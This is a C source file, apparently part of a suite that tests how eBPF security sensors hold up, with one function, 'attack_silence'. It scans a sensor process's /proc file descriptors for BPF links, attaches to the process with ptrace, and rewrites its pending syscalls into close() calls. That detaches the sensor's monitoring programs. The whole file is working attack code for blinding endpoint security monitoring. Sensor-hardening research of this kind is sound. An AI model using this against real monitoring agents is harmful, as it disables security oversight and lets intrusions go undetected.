/* SPDX-License-Identifier: GPL-3.0-or-later */
/* Who traces a sensor that is not hardened makes it close the descriptors that hold its programs where they are. */
#define _GNU_SOURCE
#include "attack.h"

#include <dirent.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

enum { LINKS_MAX = 1024 };

static int find_links(pid_t pid, int links[LINKS_MAX])
{
	char path[300], to[64];
	int count = 0;

	snprintf(path, sizeof(path), "/proc/%d/fd", pid);
	DIR *dir = opendir(path);
	for (struct dirent *entry; dir && (entry = readdir(dir)) && count < LINKS_MAX;) {
		snprintf(path, sizeof(path), "/proc/%d/fd/%s", pid, entry->d_name);
		ssize_t len = readlink(path, to, sizeof(to) - 1);
		to[len > 0 ? len : 0] = '\0';
		if (strstr(to, "bpf_link") || strstr(to, "bpf-raw-tracepoint"))
			links[count++] = atoi(entry->d_name);
	}
	if (dir)
		closedir(dir);
	return count;
}

static bool goes_on_to(pid_t pid, int request)
{
	int status;

	return ptrace(request, pid, 0, 0) == 0 && waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status);
}

#ifdef __x86_64__
enum { CALL_SIZE = 2 }; /* of the instruction */

/* Instead of the call that it is about to make, which it makes then. */
static bool close_in(pid_t pid, int fd)
{
	struct user_regs_struct own, close;

	if (!goes_on_to(pid, PTRACE_SYSCALL) || ptrace(PTRACE_GETREGS, pid, 0, &own) < 0)
		return false;
	close = own;
	close.orig_rax = SYS_close;
	close.rdi = (unsigned)fd;
	if (ptrace(PTRACE_SETREGS, pid, 0, &close) < 0 || !goes_on_to(pid, PTRACE_SYSCALL))
		return false;
	own.rax = own.orig_rax;
	own.rip -= CALL_SIZE;
	return ptrace(PTRACE_SETREGS, pid, 0, &own) == 0;
}
#else
static bool close_in(pid_t pid, int fd)
{
	fprintf(stderr, "not written for this processor: %d %d\n", pid, fd);
	return false;
}
#endif

int attack_silence(pid_t pid)
{
	int links[LINKS_MAX], count = find_links(pid, links), closed = 0;

	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0 || !goes_on_to(pid, PTRACE_INTERRUPT)) {
		perror("cannot trace");
		return 1;
	}
	while (closed < count && close_in(pid, links[closed]))
		closed++;
	ptrace(PTRACE_DETACH, pid, 0, 0);
	printf("%d of %d\n", closed, count);
	return closed && closed == count ? 0 : 1;
}
